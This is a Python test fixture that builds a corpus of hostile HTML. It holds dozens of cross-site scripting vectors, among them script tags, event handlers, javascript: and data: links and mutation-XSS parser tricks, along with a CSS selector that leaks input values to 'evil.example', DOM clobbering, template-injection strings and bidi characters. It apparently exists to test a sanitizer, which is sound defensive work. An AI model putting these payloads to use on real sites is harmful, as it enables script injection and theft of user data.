# ruff: noqa: E501 - a piece of markup is one line
"""Markup that would run, load, send or hide something, each piece by a way of its own; `X` stands for what it would do."""

from __future__ import annotations

RUN = "top.owned=1;fetch('/static/owned')"
LOAD = "http://evil.example/owned"
PIECES = (
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC={LOAD}></SCRIPT>",
    f"<script type=module>{RUN}</script>",
    f'<img src=x onerror="{RUN}">',
    f"<img src={LOAD} srcset='{LOAD} 2x' alt=picture>",
    f'<body onload="{RUN}" background={LOAD}>',
    f"<svg onload=\"{RUN}\"><script>{RUN}</script><image href={LOAD} /><a xlink:href='javascript:{RUN}'><text>drawn</text></a></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'></iframe></foreignObject></svg>",
    f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
    f'<svg><style><img src=x onerror="{RUN}"></style></svg>',
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={RUN}&gt;'></table></math>",
    f"<math href='javascript:{RUN}'><mi>x</mi></math>",
    f"<a href='javascript:{RUN}'>a link</a>",
    f"<a href='&#106;avascript:{RUN}' ping={LOAD}>another link</a>",
    f"<a href='data:text/html,<script>{RUN}</script>' target=_top>data</a>",
    f'<p style="background:url({LOAD})">styled</p>',
    f"<style>@import '{LOAD}'; input[value^=a]{{background:url({LOAD}?a)}} *{{background:url({LOAD})}}</style>",
    f"<link rel=stylesheet href={LOAD}><link rel=preload as=image href={LOAD}><link rel=dns-prefetch href={LOAD}>",
    f"<meta http-equiv=refresh content='0;url={LOAD}'>",
    f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">',
    '<meta http-equiv=Content-Security-Policy content="default-src *">',
    f"<base href={LOAD}/>",
    f'<form action={LOAD} id=f><input name=a value=secret autofocus onfocus="{RUN}"><button formaction="javascript:{RUN}">Send</button></form>',
    f"<button form=f formaction={LOAD}>Outside</button>",
    f'<iframe src={LOAD}></iframe><iframe srcdoc="<script>{RUN}</script><p>inner words</p>"></iframe>',
    f"<object data={LOAD}><p>fallback words</p></object><embed src={LOAD}><applet code=x></applet>",
    f"<template><script>{RUN}</script><p>in a template</p></template>",
    f"<div><template shadowrootmode=open><script>{RUN}</script><style>:host{{background:url({LOAD})}}</style><p>shadow words</p></template>light</div>",
    f'<div><template shadowrootmode=closed><img src=x onerror="{RUN}"><p>closed words</p></template></div>',
    f'<video src={LOAD} poster={LOAD} autoplay onplay="{RUN}"><track src={LOAD}></video><audio src={LOAD} autoplay></audio>',
    f'<details open ontoggle="{RUN}"><summary>toggled</summary><p>words</p></details>',
    f'<p tabindex=1 autofocus onfocus="{RUN}" onmouseover="{RUN}" accesskey=x>focused</p>',
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">no script</p></noscript>',
    f'<noembed><img src=x onerror="{RUN}"></noembed><noframes><img src=x onerror="{RUN}"></noframes>',
    f'<xmp><img src=x onerror="{RUN}"></xmp>',
    f'<textarea></textarea><img src=x onerror="{RUN}"><textarea><script>{RUN}</script></textarea>',
    f'<title></title><img src=x onerror="{RUN}"><title>&lt;/title&gt;<script>{RUN}</script></title>',
    f'<!--><img src=x onerror="{RUN}">--><!--a--!><img src=x onerror="{RUN}">',
    f'<table><script>{RUN}</script><tr><td background={LOAD}><form><td><img src=x onerror="{RUN}"></table>',
    f'<select><option>one<script>{RUN}</script></select><select><style></select><img src=x onerror="{RUN}">',
    f'<p><svg><p><style><g title="</style><img src=x onerror={RUN}>">',
    f'<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror={RUN} src>">',
    '<a id="u0" name="u1" href="#"><b id=u1 class=\'wn on\' style=\'position:fixed;inset:0\'>a clobbered id</b></a>',
    f'<portal src={LOAD}></portal><fencedframe></fencedframe><x-tag onclick="{RUN}">custom</x-tag>',
    f'<plaintext><img src=x onerror="{RUN}">',
)
"""The last one ends the markup of its page."""

TEXTS = (
    f"</title><script>{RUN}</script>",
    f'"><img src=x onerror={RUN}>',
    f"'><svg onload={RUN}>",
    "{{ 7 * 7 }} ${7*7} <%= 7 %>",
    "\u202eright to left\u202c \u2066 isolated",
)
"""Texts that would be markup where somebody forgot to escape them."""


def page(pieces: tuple[str, ...] = PIECES, title: str = "Hostile") -> str:
    """A page of pieces, with words between them."""
    told = "\n".join(f"<p>Words number {number} of the page.</p>{piece}" for number, piece in enumerate(pieces))
    return f"<!doctype html><html lang=en><title>{title}</title><main><h1>Hostile</h1>{told}</main></html>"
